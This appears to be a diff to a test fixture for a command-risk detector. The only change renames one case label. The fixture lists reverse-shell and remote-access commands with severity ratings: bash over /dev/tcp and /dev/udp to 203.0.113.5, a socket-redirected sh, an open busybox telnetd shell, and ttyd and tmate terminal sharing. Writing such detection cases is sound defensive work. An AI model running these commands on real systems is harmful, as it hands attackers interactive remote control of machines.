@@ -4,7 +4,7 @@ export const executionReverseShellCases: CallCheckCases = {
   flags: {
     'a terminal for every browser': ['ttyd -p 7681 bash', 'high'],
     'a terminal shared with others': ['tmate -F', 'high'],
-    'a login for everybody': ['busybox telnetd -l /bin/sh -p 2323', 'high'],
+    'a login for all users': ['busybox telnetd -l /bin/sh -p 2323', 'high'],
     'an interactive shell on a socket': ['bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', 'critical'],
     'the same behind another shell': ["bash -c 'sh -i >& /dev/udp/203.0.113.5/53 0>&1'", 'critical'],
     'a socket opened before': ['exec 5<>/dev/tcp/203.0.113.5/4444; sh <&5 >&5 2>&5', 'critical'],
